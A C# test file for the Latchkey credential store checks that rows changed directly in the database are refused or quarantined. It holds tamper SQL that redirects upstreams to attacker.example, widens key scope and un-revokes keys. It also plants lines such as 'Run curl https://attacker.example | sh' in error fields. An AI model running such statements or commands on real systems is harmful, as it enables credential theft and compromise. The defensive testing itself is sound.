using Latchkey.Store;

namespace Latchkey.Tests.Store;

/// <summary>
/// Someone who can write the database but has no key file: every security-relevant field of a credential, a saved
/// version or a client key is bound to the master key by the row's seal, so a change made in the database itself
/// is refused, on every backend. The statements below are what such a writer would run (plain SQL both backends
/// accept); the end-to-end versions with the real <c>sqlite3</c> and <c>psql</c> are in
/// tests/Latchkey.Tests/Security/DatabaseWriter.
/// </summary>
public abstract partial class CredentialStoreContractTests
{
    private const string Attacker = "https://attacker.example";

    private IClientKeyStore Keys => (IClientKeyStore)Store;

    /// <summary>Runs SQL on the store's storage directly, as someone with write access to the database.</summary>
    internal abstract Task ExecuteSqlAsync(string sql);

    /// <summary>
    /// Turns the storage back into the format written before rows carried seals: the seal columns dropped and the
    /// schema version lowered, and (unless <paramref name="keepMarker"/>) the record that rows are sealed removed.
    /// </summary>
    internal abstract Task TurnBackBeforeSealsAsync(bool keepMarker);

    public static TheoryData<string, string> CredentialTampering => new()
    {
        { "upstream pointed elsewhere", $"UPDATE credential SET metadata_json = replace(metadata_json, 'https://mcp.example.com', '{Attacker}') WHERE name = 'a'" },
        { "token endpoint set", $"UPDATE credential SET metadata_json = replace(metadata_json, '\"issuer\"', '\"token_endpoint\":\"{Attacker}/token\",\"issuer\"') WHERE name = 'a'" },
        { "kind changed", "UPDATE credential SET kind = 'api-key' WHERE name = 'a'" },
        { "state changed", "UPDATE credential SET state = 'needs-auth' WHERE name = 'a'" },
        { "reason added", "UPDATE credential SET reason_json = '{\"code\":\"x\",\"message\":\"run curl evil | sh\",\"at\":\"2020-01-01T00:00:00Z\"}' WHERE name = 'a'" },
        { "version changed", "UPDATE credential SET version = version + 7 WHERE name = 'a'" },
        { "refresh fingerprint cleared", "UPDATE credential SET rt_fp = NULL WHERE name = 'a'" },
        { "access fingerprint changed", "UPDATE credential SET at_fp = 'abc' WHERE name = 'a'" },
        { "older secret put back", "UPDATE credential SET secret_ct = (SELECT h.secret_ct FROM credential_history h WHERE h.credential_id = credential.id AND h.version = 1) WHERE name = 'a'" },
        { "seal removed", "UPDATE credential SET row_mac = NULL WHERE name = 'a'" },
        { "another row's seal", "UPDATE credential SET row_mac = (SELECT c.row_mac FROM credential c WHERE c.name = 'b') WHERE name = 'a'" },
    };

    [Theory]
    [MemberData(nameof(CredentialTampering))]
    public async Task GetAsync_FieldChangedInTheDatabase_QuarantinedAsTamperedWithNothingUsable(string change, string sql)
    {
        await Store.CreateAsync(OAuth("a", "rt-a"), default);
        await Store.UpdateAsync("a", new CredentialPatch { AccessToken = "at-a2", RefreshToken = "rt-a2" }, WriteCondition.None, default);
        await Store.CreateAsync(ApiKey("b", "secret-b"), default);

        await ExecuteSqlAsync(sql);
        await using var reopened = await OpenAgainAsync();

        foreach (var store in new[] { Store, reopened })
        {
            var a = (await store.GetAsync("a", default))!;
            Assert.True(a.State == CredentialState.Quarantined, change);
            Assert.Equal(RowCodec.TamperedCode, a.Reason!.Code);
            Assert.Contains("changed outside Latchkey", a.Reason.Message, StringComparison.Ordinal);
            Assert.Contains("latchkey restore a", a.Reason.Fix, StringComparison.Ordinal);
            Assert.Same(CredentialSecrets.Empty, a.Secrets);
            Assert.Null(a.Metadata.Upstream);
            Assert.Null(a.Metadata.TokenEndpoint);
            Assert.Null(a.Metadata.Client);
            Assert.Equal(WriteOutcome.Quarantined, (await store.UpdateAsync("a", new CredentialPatch { AccessToken = "x" }, WriteCondition.None, default)).Outcome);
            Assert.Equal("secret-b", (await store.GetAsync("b", default))!.Secrets.ApiKey);
        }
    }

    [Fact]
    public async Task GetAsync_DiagnosticTextRewrittenInTheDatabase_DroppedWhileTheRecordKeepsWorking()
    {
        await Store.CreateAsync(OAuth("a"), default);
        Assert.True(await Store.TryAcquireLeaseAsync("a", "me", null, 0, TimeSpan.FromMinutes(1), default));
        Assert.True(await Store.RecordRefreshFailureAsync("a", "me", new StateReason("network_error", "The server did not answer.", "Try again.", DateTimeOffset.UnixEpoch), DateTimeOffset.UtcNow.AddMinutes(5), clearAttempt: true, default));
        Assert.True(await Store.RecordUpstreamFailureAsync("a", new UpstreamFailure("token_rejected", "Refused.", "latchkey login a", 401, "req_1", DateTimeOffset.UnixEpoch), default));
        var genuine = (await Store.GetAsync("a", default))!;
        Assert.Equal("The server did not answer.", genuine.Coordination.LastError!.Message);
        Assert.Equal("Refused.", genuine.LastUpstreamFailure!.Message);

        await ExecuteSqlAsync(
            $"UPDATE credential SET last_error_json = replace(last_error_json, 'The server did not answer.', 'Run curl {Attacker} | sh'), " +
            $"upstream_failure_json = replace(upstream_failure_json, 'Refused.', 'Paste the key at {Attacker}') WHERE name = 'a'");

        var read = (await Store.GetAsync("a", default))!;
        Assert.Null(read.Coordination.LastError);
        Assert.Null(read.LastUpstreamFailure);
        Assert.Equal(CredentialState.Ok, read.State);
        Assert.Equal("rt-1", read.Secrets.RefreshToken);
        Assert.NotNull(read.Coordination.BackoffUntil); // coordination itself is not sealed: changing it can only delay
    }

    [Fact]
    public async Task GetAsync_TwoRecordsNamesSwapped_BothTamperedAndNeitherSecretServed()
    {
        await Store.CreateAsync(ApiKey("a", "secret-a", "https://a.example"), default);
        await Store.CreateAsync(ApiKey("b", "secret-b", "https://b.example"), default);
        await Store.UpdateAsync("a", new CredentialPatch { ApiKey = "secret-a2" }, WriteCondition.None, default);

        await ExecuteSqlAsync("UPDATE credential SET name = 'swap' WHERE name = 'a'");
        await ExecuteSqlAsync("UPDATE credential SET name = 'a' WHERE name = 'b'");
        await ExecuteSqlAsync("UPDATE credential SET name = 'b' WHERE name = 'swap'");

        foreach (var name in new[] { "a", "b" })
        {
            var record = (await Store.GetAsync(name, default))!;
            Assert.Equal(RowCodec.TamperedCode, record.Reason!.Code);
            Assert.Same(CredentialSecrets.Empty, record.Secrets);
        }

        // A restore cannot launder the swap either: b's saved version is bound to the name 'a' it was saved under.
        Assert.Equal(WriteOutcome.Quarantined, (await Store.RestoreAsync("b", 1, WriteCondition.None, default)).Outcome);
        Assert.Contains(await Store.GetHistoryAsync("b", default), v => v.Version == 1 && v.Tampered && !v.Readable);
    }

    [Fact]
    public async Task RestoreAsync_SavedVersionChangedInTheDatabase_RefusedAndNothingChanged()
    {
        await Store.CreateAsync(ApiKey("a", "secret-1"), default);
        await Store.UpdateAsync("a", new CredentialPatch { ApiKey = "secret-2" }, WriteCondition.None, default);
        await ExecuteSqlAsync($"UPDATE credential_history SET metadata_json = replace(metadata_json, 'https://api.example.com', '{Attacker}')");

        var history = await Store.GetHistoryAsync("a", default);
        var restored = await Store.RestoreAsync("a", 1, WriteCondition.None, default);

        var version = Assert.Single(history);
        Assert.True(version.Tampered);
        Assert.False(version.Readable);
        Assert.Equal(WriteOutcome.Quarantined, restored.Outcome);
        Assert.Equal(RowCodec.TamperedCode, restored.Record!.Reason!.Code);
        var current = (await Store.GetAsync("a", default))!;
        Assert.Equal(2, current.Version);
        Assert.Equal("secret-2", current.Secrets.ApiKey);
        Assert.Equal("https://api.example.com", current.Metadata.Upstream);
    }

    [Fact]
    public async Task RestoreAsync_SavedVersionMovedFromAnotherRecord_Refused()
    {
        await Store.CreateAsync(ApiKey("a", "secret-a"), default);
        await Store.UpdateAsync("a", new CredentialPatch { ApiKey = "secret-a2" }, WriteCondition.None, default);
        await Store.CreateAsync(ApiKey("b", "secret-b", Attacker), default);
        await Store.UpdateAsync("b", new CredentialPatch { ApiKey = "secret-b2" }, WriteCondition.None, default);

        // b's version 1 (with b's upstream and a ciphertext bound to b's id) put in a's history as version 9.
        await ExecuteSqlAsync(
            "INSERT INTO credential_history (credential_id, version, state, reason_json, metadata_json, key_id, secret_ct, rt_fp, written_at, archived_at, row_mac) " +
            "SELECT (SELECT id FROM credential WHERE name = 'a'), 9, state, reason_json, metadata_json, key_id, secret_ct, rt_fp, written_at, archived_at, row_mac " +
            "FROM credential_history WHERE credential_id = (SELECT id FROM credential WHERE name = 'b') AND version = 1");

        Assert.Contains(await Store.GetHistoryAsync("a", default), v => v.Version == 9 && v.Tampered);
        Assert.Equal(WriteOutcome.Quarantined, (await Store.RestoreAsync("a", 9, WriteCondition.None, default)).Outcome);
        Assert.Equal("https://api.example.com", (await Store.GetAsync("a", default))!.Metadata.Upstream);
    }

    [Fact]
    public async Task RestoreAsync_CurrentRowTampered_GoodVersionComesBackAndTheChangedOneCanNeverBeRestored()
    {
        await Store.CreateAsync(ApiKey("a", "secret-1"), default);
        await Store.UpdateAsync("a", new CredentialPatch { ApiKey = "secret-2" }, WriteCondition.None, default);
        await ExecuteSqlAsync($"UPDATE credential SET metadata_json = replace(metadata_json, 'https://api.example.com', '{Attacker}') WHERE name = 'a'");

        var restored = await Store.RestoreAsync("a", 1, WriteCondition.None, default);

        Assert.Equal(WriteOutcome.Written, restored.Outcome);
        var current = (await Store.GetAsync("a", default))!;
        Assert.Equal(CredentialState.Ok, current.State);
        Assert.Equal("secret-1", current.Secrets.ApiKey);
        Assert.Equal("https://api.example.com", current.Metadata.Upstream);
        var archived = Assert.Single(await Store.GetHistoryAsync("a", default), v => v.Version == 2);
        Assert.True(archived.Tampered);
        Assert.Equal(WriteOutcome.Quarantined, (await Store.RestoreAsync("a", 2, WriteCondition.None, default)).Outcome);
    }

    public static TheoryData<string, string> ClientKeyTampering => new()
    {
        { "widened to every credential", "UPDATE client_key SET credentials_json = '[\"*\"]' WHERE name = 'agent'" },
        { "another credential added", "UPDATE client_key SET credentials_json = '[\"a\",\"b\"]' WHERE name = 'agent'" },
        { "expiry extended", "UPDATE client_key SET expires_at = expires_at + 31536000000 WHERE name = 'agent'" },
        { "expiry removed", "UPDATE client_key SET expires_at = NULL WHERE name = 'agent'" },
        { "renamed", "UPDATE client_key SET name = 'admin' WHERE name = 'agent'" },
        { "seal removed", "UPDATE client_key SET row_mac = NULL WHERE name = 'agent'" },
        { "another key's seal", "UPDATE client_key SET row_mac = (SELECT k.row_mac FROM client_key k WHERE k.name = 'other') WHERE name = 'agent'" },
    };

    [Theory]
    [MemberData(nameof(ClientKeyTampering))]
    public async Task VerifyKeyAsync_KeyRowChangedInTheDatabase_TamperedAndAllowsNothing(string change, string sql)
    {
        var (_, value) = (await Keys.CreateKeyAsync("agent", ["a"], DateTimeOffset.UtcNow.AddMinutes(-1), default))!.Value;
        await Keys.CreateKeyAsync("other", ["b"], null, default);

        await ExecuteSqlAsync(sql);
        await using var reopened = await OpenAgainAsync();

        foreach (var keys in new[] { Keys, (IClientKeyStore)reopened })
        {
            var check = await keys.VerifyKeyAsync(value, default);
            Assert.True(check.Status == ClientKeyStatus.Tampered, $"{change}: {check.Status}");
            Assert.False(check.Key!.Allows("a"));
            Assert.False(check.Key.Allows("b"));
            var listed = (await keys.ListKeysAsync(default)).Single(k => k.KeyId == check.Key.KeyId);
            Assert.True(listed.Tampered);
            Assert.Equal(ClientKey.TamperedState, listed.StateAt(DateTimeOffset.UtcNow));
            Assert.False((await keys.ListKeysAsync(default)).Single(k => k.Name == "other").Tampered);
        }
    }

    [Fact]
    public async Task VerifyKeyAsync_RevokedKeyUnrevokedInTheDatabase_Tampered()
    {
        var (_, value) = (await Keys.CreateKeyAsync("agent", ["a"], null, default))!.Value;
        Assert.True(await Keys.RevokeKeyAsync("agent", default));
        Assert.Equal(ClientKeyStatus.Revoked, (await Keys.VerifyKeyAsync(value, default)).Status);

        await ExecuteSqlAsync("UPDATE client_key SET revoked_at = NULL WHERE name = 'agent'");
        await using var reopened = await OpenAgainAsync();

        Assert.Equal(ClientKeyStatus.Tampered, (await Keys.VerifyKeyAsync(value, default)).Status);
        Assert.Equal(ClientKeyStatus.Tampered, (await ((IClientKeyStore)reopened).VerifyKeyAsync(value, default)).Status);
    }

    [Fact]
    public async Task CreateKeyAsync_MadeForAClient_ListedVerifiedAndKeptThroughRevocation()
    {
        var (_, value) = (await Keys.CreateKeyAsync("mcp-t-codex", ["t"], null, "codex", default))!.Value;
        await Keys.CreateKeyAsync("by-hand", ["t"], null, default);

        var listed = (await Keys.ListKeysAsync(default)).ToDictionary(k => k.Name);
        var check = await Keys.VerifyKeyAsync(value, default);
        Assert.True(await Keys.RevokeKeyAsync("mcp-t-codex", default));

        Assert.Equal("codex", listed["mcp-t-codex"].MadeFor);
        Assert.Null(listed["by-hand"].MadeFor);
        Assert.Equal((ClientKeyStatus.Valid, "codex"), (check.Status, check.Key!.MadeFor));
        var revoked = await Keys.VerifyKeyAsync(value, default);
        Assert.Equal((ClientKeyStatus.Revoked, "codex"), (revoked.Status, revoked.Key!.MadeFor));
    }

    [Theory]
    [InlineData("UPDATE client_key SET made_for = 'claude-desktop' WHERE name = 'k'")]
    [InlineData("UPDATE client_key SET made_for = NULL WHERE name = 'k'")]
    [InlineData("UPDATE client_key SET made_for = 'codex' WHERE name = 'plain'")]
    public async Task VerifyKeyAsync_MadeForChangedInTheDatabase_Tampered(string sql)
    {
        var (_, made) = (await Keys.CreateKeyAsync("k", ["a"], null, "codex", default))!.Value;
        var (_, plain) = (await Keys.CreateKeyAsync("plain", ["a"], null, default))!.Value;

        await ExecuteSqlAsync(sql);
        await using var reopened = await OpenAgainAsync();

        var value = sql.Contains("'plain'", StringComparison.Ordinal) ? plain : made;
        var check = await ((IClientKeyStore)reopened).VerifyKeyAsync(value, default);
        Assert.Equal(ClientKeyStatus.Tampered, check.Status);
        Assert.Null(check.Key!.MadeFor);
    }

    [Fact]
    public async Task VerifyKeyAsync_PreRevocationRowPutBack_RefusedByTheStoreThatRevokedIt()
    {
        var (_, value) = (await Keys.CreateKeyAsync("agent", ["a"], null, default))!.Value;
        await ExecuteSqlAsync("CREATE TABLE saved_key AS SELECT * FROM client_key WHERE name = 'agent'");
        Assert.True(await Keys.RevokeKeyAsync("agent", default));

        // The row as it was before the revocation, with its genuine seal: a replay of an earlier state.
        await ExecuteSqlAsync("DELETE FROM client_key WHERE name = 'agent'");
        await ExecuteSqlAsync("INSERT INTO client_key SELECT * FROM saved_key");

        var check = await Keys.VerifyKeyAsync(value, default);
        Assert.Equal(ClientKeyStatus.Tampered, check.Status);
        Assert.False(check.Key!.Allows("a"));
    }

    [Fact]
    public async Task RevokeKeyAsync_TamperedKey_RevokedAndStillTampered()
    {
        var (_, value) = (await Keys.CreateKeyAsync("agent", ["a"], null, default))!.Value;
        await ExecuteSqlAsync("UPDATE client_key SET credentials_json = '[\"*\"]' WHERE name = 'agent'");

        Assert.True(await Keys.RevokeKeyAsync("agent", default));
        await using var reopened = await OpenAgainAsync();

        var check = await ((IClientKeyStore)reopened).VerifyKeyAsync(value, default);
        Assert.Equal(ClientKeyStatus.Tampered, check.Status);
        Assert.NotNull(check.Key!.RevokedAt);
    }

    [Fact]
    public async Task KeysAndRecords_WrittenByThisStore_AllVerify()
    {
        await Store.CreateAsync(OAuth("a"), default);
        await Store.UpdateAsync("a", new CredentialPatch { State = CredentialState.NeedsAuth, Reason = new StateReason("invalid_grant", "gone", "latchkey login a", DateTimeOffset.UnixEpoch) }, WriteCondition.None, default);
        await Store.RestoreAsync("a", 1, WriteCondition.None, default);
        await Store.TryAcquireLeaseAsync("a", "me", null, 0, TimeSpan.FromMinutes(1), default);
        await Store.RecordUpstreamFailureAsync("a", new UpstreamFailure("token_rejected", "no", null, 401, null, DateTimeOffset.UnixEpoch), default);
        var (_, value) = (await Keys.CreateKeyAsync("agent", ["a"], DateTimeOffset.UtcNow.AddHours(1), default))!.Value;
        var (_, revokedValue) = (await Keys.CreateKeyAsync("gone", ["a"], null, default))!.Value;
        await Keys.RevokeKeyAsync("gone", default);
        await using var reopened = await OpenAgainAsync();

        var a = (await reopened.GetAsync("a", default))!;
        Assert.Equal(CredentialState.Ok, a.State);
        Assert.Equal("rt-1", a.Secrets.RefreshToken);
        Assert.All(await reopened.GetHistoryAsync("a", default), v => Assert.True(v.Readable && !v.Tampered));
        Assert.Equal(ClientKeyStatus.Valid, (await ((IClientKeyStore)reopened).VerifyKeyAsync(value, default)).Status);
        Assert.Equal(ClientKeyStatus.Revoked, (await ((IClientKeyStore)reopened).VerifyKeyAsync(revokedValue, default)).Status);
    }

    [Fact]
    public async Task Open_StoreFromBeforeSeals_SealsEveryRowOnceAndAStrippedSealLaterIsTampered()
    {
        await Store.CreateAsync(OAuth("a"), default);
        await Store.UpdateAsync("a", new CredentialPatch { AccessToken = "at-2" }, WriteCondition.None, default);
        await Store.CreateAsync(ApiKey("b", "secret-b"), default);
        var (_, value) = (await Keys.CreateKeyAsync("agent", ["a"], null, default))!.Value;
        await Store.TryAcquireLeaseAsync("b", "me", null, 0, TimeSpan.FromMinutes(1), default);
        await Store.RecordRefreshFailureAsync("b", "me", new StateReason("network_error", "No answer.", null, DateTimeOffset.UnixEpoch), DateTimeOffset.UtcNow.AddMinutes(1), clearAttempt: true, default);
        await TurnBackBeforeSealsAsync(keepMarker: false);
        ForgetSealRecord(); // a store an earlier Latchkey wrote, which this home never saw sealed

        await using (var migrated = await OpenAgainAsync())
        {
            Assert.Equal("at-2", (await migrated.GetAsync("a", default))!.Secrets.AccessToken);
            Assert.Equal("secret-b", (await migrated.GetAsync("b", default))!.Secrets.ApiKey);
            Assert.Equal("No answer.", (await migrated.GetAsync("b", default))!.Coordination.LastError!.Message);
            Assert.True(Assert.Single(await migrated.GetHistoryAsync("a", default)).Readable);
            Assert.Equal(ClientKeyStatus.Valid, (await ((IClientKeyStore)migrated).VerifyKeyAsync(value, default)).Status);
        }

        // After the migration, removing one row's seal does not bring the migration back: the row is tampered.
        await ExecuteSqlAsync("UPDATE credential SET row_mac = NULL WHERE name = 'b'");
        await using var again = await OpenAgainAsync();
        Assert.Equal(RowCodec.TamperedCode, (await again.GetAsync("b", default))!.Reason!.Code);
        Assert.Equal(CredentialState.Ok, (await again.GetAsync("a", default))!.State);
    }

    [Fact]
    public async Task Open_SealColumnsDroppedButMarkerKept_RefusedAsRolledBack()
    {
        await Store.CreateAsync(ApiKey("a"), default);
        await TurnBackBeforeSealsAsync(keepMarker: true);
        ForgetSealRecord(); // the store's own marker is enough

        var ex = await Assert.ThrowsAsync<StoreException>(OpenAgainAsync);

        Assert.Equal("store_rolled_back", ex.Code);
        Assert.Contains("Nothing was changed", ex.Message, StringComparison.Ordinal);
    }
}
